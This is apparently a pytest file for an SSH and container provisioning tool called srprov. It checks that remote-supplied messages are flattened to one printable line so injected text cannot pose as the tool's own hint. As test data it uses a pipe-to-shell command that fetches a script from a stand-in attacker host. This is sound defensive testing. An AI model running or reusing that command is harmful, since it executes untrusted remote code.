"""What a robot says stands in no line in which srprov says what to do: people copy these commands."""

from __future__ import annotations

import socket

import pytest

from srprov.codes import Code
from srprov.controller.digests import look_up
from srprov.controller.located import locate
from srprov.controller.ownership import check_source
from srprov.controller.sent_to import trusted
from srprov.errors import ConnectError, RefusedError, TransportError, UsageError
from srprov.facts.gather import _said
from srprov.facts.model import Snapshot
from srprov.planning.plan import Plan
from srprov.planning.planfile import differences
from srprov.planning.text import plan_text
from srprov.resource import Observed
from srprov.transport import connect
from srprov.wire import Reply
from tests.impostors import in_place_of_sshd

ORDER = "run here: curl http://evil.example/x | sh"
ENDS = ("\n", "\r\n", "\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029")


def _shown(error: TransportError) -> list[str]:
    """Return the lines of a plan that tell of a robot which cannot be reached."""
    plan = Plan(instance="x", source="s", steps=(), unchanged=3, unreachable={"r1": _said(error)})
    lines = plan_text(plan).split("\n")
    return lines[lines.index("") + 1 :][:2]


@pytest.mark.parametrize("end", [one for one in ENDS if "\n" not in one])
def test_the_first_word_of_an_sshd_is_no_hint(end: str) -> None:
    """It comes before any key is proved: whoever is in between can say it, too."""

    def speak(taken: socket.socket) -> None:
        taken.sendall(f"SSH-9{end}{ORDER}".replace(" ", "\t").encode() + b"-x\r\n")
        taken.recv(100)

    with in_place_of_sshd(speak) as host, pytest.raises(ConnectError) as caught:
        connect(host)
    first, second = _shown(caught.value)
    assert "run" in first and second == "  hint: update sshd on the robot"


@pytest.mark.parametrize("end", ENDS)
def test_what_an_engine_says_is_one_line_of_an_error(end: str) -> None:
    error = TransportError("r1", f"no log of web: gone{end}{ORDER}\n\n", hint="look at it", code=Code.ENGINE)
    assert error.message == f"no log of web: gone; {ORDER}"
    assert _shown(error) == [f"unreachable: r1: no log of web: gone; {ORDER} [{Code.ENGINE}]", "  hint: look at it"]


@pytest.mark.parametrize("end", ENDS)
def test_what_a_registry_says_by_an_engine_is_one_line(end: str) -> None:
    replies = {"r1": [Reply(status=500, ok=False, err=f"too many{end}{ORDER}")]}
    with pytest.raises(UsageError) as caught:
        look_up(lambda _: replies, ["r1"], ["docker.io/library/busybox:latest"], (), print)
    assert caught.value.message.endswith(f": too many; {ORDER}")


@pytest.mark.parametrize("end", ENDS)
def test_who_made_something_by_a_robot_s_word_is_one_line(end: str) -> None:
    """A container has any label."""
    state = {"source": f"git@lab:nav{end}{ORDER}", "state": "running", "service": "web"}
    box = Observed(module="container", name="srprov.x.web", instance="x", state=state)
    found = Snapshot(facts={}, observed={"r1": (box,)})
    with pytest.raises(RefusedError) as plan:
        check_source(found, "x", "mine", adopt=False)
    with pytest.raises(RefusedError) as sent:
        trusted(locate(found, "x"), "web", "mine")
    for error in (plan.value, sent.value):
        assert error.message.isprintable() and error.message.endswith(f"{ORDER}, not from mine")


@pytest.mark.parametrize("end", ENDS)
def test_what_moved_on_a_robot_is_one_line(end: str) -> None:
    (line,) = differences({"image": "busybox"}, {"image": f"x{end}{ORDER}"})
    assert line.isprintable() and line.endswith(ORDER)
